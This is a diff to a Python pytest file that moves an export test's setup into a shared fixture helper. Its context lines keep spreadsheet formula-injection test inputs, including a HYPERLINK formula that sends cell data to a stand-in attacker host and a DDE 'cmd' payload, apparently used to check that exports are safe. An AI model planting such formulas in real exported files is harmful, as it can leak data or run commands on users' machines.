@@ -26,6 +26,7 @@ from observatory.store import open_store
 from observatory.store.labels import add_labels
 from observatory.store.strategies import save_strategy
 from observatory.store.tables import PriorityRow
+from tests.store_fixtures import load_demo_sample
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 HOSTILE = [FORMULA, "+1+1 cells", "-2 as a start", "@SUM(A1:A3)", "=cmd|' /C calc'!A0"]
@@ -36,18 +37,8 @@ SAMPLE = Path(__file__).resolve().parents[2] / "observatory" / "sample" / "prior
 def exports(tmp_path_factory: pytest.TempPathFactory) -> dict:
     """The sample (via the CLI) plus the hostile strategy in a store, and the app serving it."""
     folder = tmp_path_factory.mktemp("export")
-    database_url = f"sqlite:///{folder / 'export.db'}"
-    env = {
-        "OBSERVATORY_DATABASE_URL": database_url,
-        "OBSERVATORY_DATA_DIR": str(folder),
-        "OBSERVATORY_EMBEDDING_BACKEND": "lexical",  # exports need no model
-    }
-    with pytest.MonkeyPatch.context() as patch:
-        for key, value in env.items():
-            patch.setenv(key, value)
-        with pytest.raises(SystemExit) as done:
-            main(["demo", "load", "--skip-classify"])
-        assert done.value.code in (0, None)
+    env = load_demo_sample(folder)  # exports need no model: lexical embedder
+    database_url = env["OBSERVATORY_DATABASE_URL"]
     settings = load_settings(
         database_url=database_url, data_dir=folder, embedding_backend="lexical"
     )
